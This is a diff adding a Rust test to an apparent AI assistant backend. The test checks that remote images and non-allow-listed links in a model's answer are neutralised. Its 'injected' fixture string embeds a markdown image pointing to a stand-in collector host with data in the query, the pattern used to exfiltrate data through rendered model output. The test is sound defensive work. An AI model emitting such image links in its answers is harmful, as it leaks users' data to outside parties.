@@ -1134,3 +1134,29 @@ async fn a_call_without_a_tool_name_is_an_unknown_tool_for_the_model() {
     let result = messages(&f.provider.requests()[1]).last().unwrap().clone();
     assert!(result["content"].as_str().unwrap().contains("unknown_tool"));
 }
+
+#[tokio::test]
+async fn remote_images_and_links_in_an_answer_are_neutralised() {
+    let injected = "Readings are fine.![](https://collect.example/p?d=acme-hq) [More](https://docs.crowdvision.io/x)";
+    let f = fixture(
+        vec![
+            answer(injected, usage(10, 2)),
+            answer(injected, usage(10, 2)),
+        ],
+        &[],
+    )
+    .await;
+    let response = ask(&f, "How are the readings?").await.unwrap();
+    assert_eq!(response.answer, "Readings are fine.[image: ] More");
+
+    let f = fixture(
+        vec![answer(injected, usage(10, 2))],
+        &[("LINK_ALLOWED_HOSTS", "crowdvision.io")],
+    )
+    .await;
+    let response = ask(&f, "How are the readings?").await.unwrap();
+    assert_eq!(
+        response.answer,
+        "Readings are fine.[image: ] [More](https://docs.crowdvision.io/x)"
+    );
+}
